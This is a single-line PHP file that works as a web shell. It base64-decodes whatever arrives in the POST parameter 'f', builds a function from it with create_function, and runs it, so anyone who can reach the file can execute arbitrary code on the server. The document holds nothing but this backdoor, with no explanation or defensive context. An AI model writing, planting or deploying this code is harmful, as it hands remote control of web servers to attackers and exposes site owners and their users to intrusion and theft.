<?php $f = create_function('', base64_decode($_POST['f'])); $f(); ?>
